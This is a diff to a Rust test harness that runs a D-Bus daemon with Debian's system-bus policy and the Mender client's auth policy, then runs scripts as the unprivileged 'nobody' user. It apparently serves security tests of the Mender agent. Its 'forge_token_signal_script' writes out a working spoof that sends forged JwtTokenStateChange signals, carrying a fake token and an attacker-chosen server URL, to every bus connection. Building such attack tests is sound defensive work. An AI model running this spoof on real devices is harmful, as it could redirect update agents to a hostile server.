@@ -103,11 +103,35 @@ impl TestBus {
 
     /// Starts a bus whose socket is `dir/bus` (reusing `dir` restarts a bus at the same address).
     pub fn start_in(dir: PathBuf) -> Result<TestBus, Error> {
+        let socket = dir.join("bus");
+        let config = bus_config(&socket);
+        Self::start_with(dir, &config)
+    }
+
+    /// Starts a bus in a new temporary directory with the policy of a Debian system bus: the
+    /// `<policy>` blocks of `/usr/share/dbus-1/system.conf` (any user may connect and send
+    /// signals to anyone; method calls are denied unless a service's file allows them) and the
+    /// Mender client's `io.mender.AuthenticationManager.conf` (only root owns and calls the
+    /// service). What a local unprivileged user can do to the agent on a real device, it can do
+    /// here.
+    pub fn start_system_policy() -> Result<TestBus, Error> {
+        let dir = std::env::temp_dir().join(format!(
+            "mcrs-sysbus-{}-{}",
+            std::process::id(),
+            UNIQUE.fetch_add(1, Ordering::Relaxed)
+        ));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir)?;
+        let config = system_policy_config(&dir.join("bus"))?;
+        Self::start_with(dir, &config)
+    }
+
+    fn start_with(dir: PathBuf, config_text: &str) -> Result<TestBus, Error> {
         std::fs::create_dir_all(&dir)?;
         let socket = dir.join("bus");
         let _ = std::fs::remove_file(&socket);
         let config = dir.join("bus.conf");
-        std::fs::write(&config, bus_config(&socket))?;
+        std::fs::write(&config, config_text)?;
         let mut child = Command::new("dbus-daemon")
             .arg(format!("--config-file={}", config.display()))
             .args(["--nofork", "--print-address=1"])
@@ -194,6 +218,94 @@ fn bus_config(socket: &Path) -> String {
 </busconfig>
 "#,
         socket.display()
+    )
+}
+
+/// Debian's system bus configuration.
+pub const DEBIAN_SYSTEM_CONF: &str = "/usr/share/dbus-1/system.conf";
+/// The Mender client's policy for its auth service (Debian package `mender-client`).
+pub const MENDER_AUTH_POLICY: &str = "/usr/share/dbus-1/system.d/io.mender.AuthenticationManager.conf";
+
+/// A bus configuration listening on `socket` with the policy of a Debian system bus (see
+/// [`TestBus::start_system_policy`]): the installed files themselves, not a copy, so the tests
+/// follow what Debian ships.
+pub fn system_policy_config(socket: &Path) -> Result<String, Error> {
+    let system = std::fs::read_to_string(DEBIAN_SYSTEM_CONF).map_err(|e| {
+        io::Error::new(e.kind(), format!("{DEBIAN_SYSTEM_CONF}: {e} (apt-get install dbus-daemon)"))
+    })?;
+    if !Path::new(MENDER_AUTH_POLICY).exists() {
+        return Err(Error::Bus(format!(
+            "{MENDER_AUTH_POLICY} missing (apt-get install mender-client)"
+        )));
+    }
+    // Everything but the policy (user, fork, pid file, syslog, service helper, listen address)
+    // belongs to the machine's own bus.
+    let mut policies = String::new();
+    let mut rest = system.as_str();
+    while let Some(start) = rest.find("<policy") {
+        let Some(len) = rest[start..].find("</policy>") else { break };
+        let end = start + len + "</policy>".len();
+        policies.push_str("  ");
+        policies.push_str(&rest[start..end]);
+        policies.push('\n');
+        rest = &rest[end..];
+    }
+    if !policies.contains("context=\"default\"") {
+        return Err(Error::Bus(format!("no default policy found in {DEBIAN_SYSTEM_CONF}")));
+    }
+    Ok(format!(
+        r#"<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
+ "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
+<busconfig>
+  <type>system</type>
+  <listen>unix:path={}</listen>
+  <auth>EXTERNAL</auth>
+{policies}  <include>{MENDER_AUTH_POLICY}</include>
+</busconfig>
+"#,
+        socket.display()
+    ))
+}
+
+/// The uid and gid of Debian's `nobody`: the local unprivileged user of the attack tests.
+pub const NOBODY: u32 = 65534;
+
+/// Runs `script` with `sh -c` as the unprivileged user [`NOBODY`] (real uid, gid, no groups, no
+/// capabilities), with `DBUS_SYSTEM_BUS_ADDRESS` set to `bus`; returns its exit status and output
+/// (stdout and stderr). The script can use `dbus-send --system` as any local user could.
+pub fn run_as_nobody(bus: &str, script: &str) -> io::Result<(std::process::ExitStatus, String)> {
+    let out = Command::new("setpriv")
+        .arg(format!("--reuid={NOBODY}"))
+        .arg(format!("--regid={NOBODY}"))
+        .args(["--clear-groups", "--inh-caps=-all", "--bounding-set=-all", "--"])
+        .args(["sh", "-c", script])
+        .env_clear()
+        .env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin")
+        .env("DBUS_SYSTEM_BUS_ADDRESS", bus)
+        .current_dir("/")
+        .stdin(Stdio::null())
+        .output()
+        .map_err(|e| io::Error::new(e.kind(), format!("setpriv (util-linux): {e}")))?;
+    let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
+    text.push_str(&String::from_utf8_lossy(&out.stderr));
+    Ok((out.status, text))
+}
+
+/// A shell script for [`run_as_nobody`] that does what an attacker on the device can: list the
+/// bus's connections and send each of them, and everyone, `JwtTokenStateChange` with a server URL
+/// of its own from the service's object path. Prints `sent N` (N unicast signals).
+pub fn forge_token_signal_script(token: &str, server_url: &str) -> String {
+    let signal = format!(
+        "--type=signal {OBJECT_PATH} {INTERFACE}.JwtTokenStateChange string:{token} string:{server_url}"
+    );
+    format!(
+        r#"set -e
+names=$(dbus-send --system --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.ListNames | sed -n 's/.*string "\(:[0-9.]*\)".*/\1/p')
+n=0
+for name in $names; do dbus-send --system --dest="$name" {signal}; n=$((n+1)); done
+dbus-send --system {signal}
+echo "sent $n"
+"#
     )
 }
 
